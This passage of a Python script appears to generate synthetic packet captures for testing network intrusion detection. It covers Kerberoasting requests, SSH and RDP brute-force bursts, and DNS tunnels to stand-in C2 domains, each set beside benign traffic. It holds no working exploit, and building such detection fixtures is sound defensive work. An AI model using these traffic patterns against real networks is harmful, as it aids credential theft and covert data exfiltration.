    return der(0x6d, seq(ctx(0, der_int(5)), ctx(1, der_int(13)), ctx(3, gstring("LAB.LOCAL")),
                         ctx(4, principal(1, "svc_probe")), ctx(5, ticket), ctx(6, encrypted(18, None, "rep", 200))))


SPNS = ["MSSQLSvc/db-01.lab.local:1433", "HTTP/app-01.lab.local", "CIFS/fs-01.lab.local", "exchangeMDB/mx-01.lab.local",
        "HOST/rdp-01.lab.local", "ldap/dc-01.lab.local"]


def kerberos_tcp(client, etypes, reply_etype, first_port):
    """Six TGS-REQs, one TCP connection each. The first carries a TGT with a large PAC (2,000
    bytes), so its request spans two segments and the etype list is in the second: requests
    marks the segment that completes each request."""
    cap = Capture()
    m = {"requests": []}
    for i, spn in enumerate(SPNS):
        s = session(cap, client, DC, first_port + i, 88)
        s.handshake()
        req = struct.pack(">I", 0) + tgs_req(spn, etypes, 0x1f2e3d00 + i, tgt_size=2000 if i == 0 else 1040)
        req = struct.pack(">I", len(req) - 4) + req[4:]
        if len(req) > 1448:
            s.send(req[:1448])
            req = req[1448:]
        m["requests"].append(s.send(req))
        rep = tgs_rep(spn, reply_etype, i)
        s.send(struct.pack(">I", len(rep)) + rep, to_server=False)
        s.close()
    return cap, m


def kerberos_udp(client, etypes, reply_etype, first_port):
    cap = Capture()
    m = {"requests": []}
    for i, spn in enumerate(SPNS[:5]):
        # Under Windows' MaxPacketSize (1,465 bytes): a smaller TGT and service ticket than over TCP.
        m["requests"].append(udp(cap, client, DC, first_port + i, 88,
                                 tgs_req(spn, etypes, 0x2f3e4d00 + i, tgt_size=900)))
        udp(cap, DC, client, 88, first_port + i, tgs_rep(spn, reply_etype, 10 + i, ticket_size=900))
    return cap, m


def kerberoast_tcp():
    """Kerberoasting from web-01 over TCP: six TGS-REQs (one connection each, as impacket's
    GetUserSPNs) asking for RC4-HMAC (etype 23) alone; the KDC issues RC4 service tickets."""
    return kerberos_tcp(WEB, [23], 23, 50100)


def kerberoast_udp():
    """The same over UDP (Rubeus /rc4opsec style, small tickets): five requests."""
    return kerberos_udp(WEB, [23], 23, 50200)


def kerberos_aes_tcp():
    """Benign: a Windows client's TGS-REQs (etypes 18, 17, 23, 24, -135) over TCP."""
    return kerberos_tcp(DB, [18, 17, 23, 24, -135], 18, 50300)


def kerberos_aes_udp():
    """Benign: an MIT client's TGS-REQs (etypes 18, 17) over UDP."""
    return kerberos_udp(DB, [18, 17], 18, 50400)


# --- Scenarios: brute force -----------------------------------------------------------------------

def ssh_attempt(cap, client, server, port, gap_usec):
    s = session(cap, client, server, port, 22)
    cap.usec += gap_usec
    syn = s.handshake() - 2
    s.send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", to_server=False)
    s.send(b"SSH-2.0-Go\r\n")
    s.send(filler(f"kexinit{port}", 600))
    s.send(struct.pack(">IBB", 12, 10, 51) + b"\x00" * 10, to_server=False)  # encrypted auth failure, roughly
    s.close()
    return syn


def rdp_attempt(cap, client, server, port, gap_usec):
    s = session(cap, client, server, port, 3389)
    cap.usec += gap_usec
    syn = s.handshake() - 2
    cookie = b"Cookie: mstshash=administrator\r\n"
    x224 = bytes([6 + len(cookie) + 8, 0xe0, 0, 0, 0, 0, 0]) + cookie + bytes.fromhex("010008000b000000")
    s.send(bytes([3, 0]) + struct.pack(">H", 4 + len(x224)) + x224)
    s.send(bytes.fromhex("030000130ed000001234000209080002000000"), to_server=False)
    s.send(filler(f"tls-hello{port}", 300))
    s.close()
    return syn


def ssh_brute_force():
    """web-01 opens 12 SSH connections to db-01 within 12 s (a password-guessing tool)."""
    cap = Capture()
    return cap, {"syns": [ssh_attempt(cap, WEB, DB, 40000 + i, 1_000_000) for i in range(12)]}


def rdp_brute_force():
    """web-01 opens 12 RDP connections to rdp-01 within 12 s, each with the X.224 cookie."""
    cap = Capture()
    return cap, {"syns": [rdp_attempt(cap, WEB, RDP, 41000 + i, 1_000_000) for i in range(12)]}


def admin_sessions():
    """Benign: an administrator's 3 SSH and 3 RDP sessions, and 12 SSH connections of a
    configuration-management run spread over 110 s (at most 6 in any 60 s window)."""
    cap = Capture()
    m = {"ssh": [ssh_attempt(cap, DB, APP, 42000 + i, 5_000_000) for i in range(3)],
         "rdp": [rdp_attempt(cap, DB, RDP, 42100 + i, 5_000_000) for i in range(3)],
         "slow": [ssh_attempt(cap, DB, FS, 42200 + i, 10_000_000) for i in range(12)]}
    return cap, m


# --- Scenarios: DNS tunnelling --------------------------------------------------------------------

def dns_query(txid, name, qtype):
    return struct.pack(">HHHHHH", txid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack(">HH", qtype, 1)


def dns_answer(query, rtype, rdata):
    txid, = struct.unpack(">H", query[:2])
    return (struct.pack(">HHHHHH", txid, 0x8180, 1, 1, 0, 0) + query[12:] +
            struct.pack(">HHHIH", 0xc00c, rtype, 1, 0, len(rdata)) + rdata)


def txt_rdata(text):
    return bytes([len(text)]) + text.encode()


def dns_tunnel():
    """dnscat2-style tunnel from web-01 through the resolver: 32 TXT queries whose names carry
    hex-encoded data in two 63-character labels under t.example-c2.net, answered with TXT data."""
    cap = Capture()
    m = {"queries": []}
    for i in range(32):
        data = hashlib.sha256(f"chunk{i}".encode()).hexdigest() * 2  # 128 hex characters
        name = f"{data[:63]}.{data[63:126]}.t.example-c2.net"
        query = dns_query(0x6000 + i, name, 16)
        m["queries"].append(udp(cap, WEB, RESOLVER, 51000 + i, 53, query))
        udp(cap, RESOLVER, WEB, 53, 51000 + i, dns_answer(query, 16, txt_rdata(data[:60])))
    return cap, m


def iodine_tunnel():
    """iodine-style tunnel: three NULL (type 10) queries with 57-character base32 labels."""
    cap = Capture()
    m = {"queries": []}
    alphabet = "abcdefghijklmnopqrstuvwxyz012345"
    for i in range(3):
        digest = hashlib.sha256(f"iodine{i}".encode()).digest()
        label = "".join(alphabet[b % 32] for b in (digest * 2)[:56])
        query = dns_query(0x7000 + i, f"p{label}.i.example-tun.org", 10)
        m["queries"].append(udp(cap, WEB, RESOLVER, 52000 + i, 53, query))
        udp(cap, RESOLVER, WEB, 53, 52000 + i, dns_answer(query, 10, filler(f"null{i}", 120)))
    return cap, m


def dns_txt_burst():
    """A C2 channel over short TXT queries: 45 in 45 s from web-01 (a query and its answer a second)."""
    cap = Capture(step_usec=500_000)
    m = {"queries": []}
    for i in range(45):
        query = dns_query(0x7100 + i, f"c{i}.cdn-sync.example.org", 16)
        m["queries"].append(udp(cap, WEB, RESOLVER, 53000 + i, 53, query))
        udp(cap, RESOLVER, WEB, 53, 53000 + i, dns_answer(query, 16, txt_rdata("ok")))
    return cap, m


def dns_normal():
    """Benign: db-01's ordinary lookups: A, AAAA, MX, PTR, SPF/DMARC TXT (8 of them), a long
    descriptive label without digits (58 characters) and a CDN name with a 40-character hex label."""
    cap = Capture()
    names = [("deb.debian.org", 1), ("deb.debian.org", 28), ("lab.local", 15), ("11.0.20.10.in-addr.arpa", 12),
             ("this-is-a-rather-long-but-perfectly-legitimate-service-name.example.com", 1),
             ("d3f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3.cloudfront.net", 1)]
    names += [(f"{d}.example.com", 16) for d in ("_dmarc", "selector1._domainkey", "mail", "www")] * 2
    m = {"queries": []}
    for i, (name, qtype) in enumerate(names):
        query = dns_query(0x7200 + i, name, qtype)
        m["queries"].append(udp(cap, DB, RESOLVER, 54000 + i, 53, query))
        udp(cap, RESOLVER, DB, 53, 54000 + i, dns_answer(query, 1, bytes([10, 20, 0, 99])) if qtype == 1 else
            dns_answer(query, 16, txt_rdata("v=spf1 -all")) if qtype == 16 else query[:2] + b"\x81\x80" + query[4:])
    return cap, m


SCENARIOS = {f.__name__: f for f in (
    eternalblue, smb1_multiprotocol_negotiate, psexec, smb2_file_copy, wmiexec, wmi_monitoring, winrm_shell,
    winrm_encrypted, winrm_identify, llmnr_poisoning, nbtns_poisoning, name_queries_unanswered, kerberoast_tcp,
    kerberoast_udp, kerberos_aes_tcp, kerberos_aes_udp, ssh_brute_force, rdp_brute_force, admin_sessions, dns_tunnel,
    iodine_tunnel, dns_txt_burst, dns_normal)}


def main(outdir):
    os.makedirs(outdir, exist_ok=True)
    for name, build in SCENARIOS.items():
        cap, _ = build()
        cap.write(os.path.join(outdir, name + ".pcap"))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
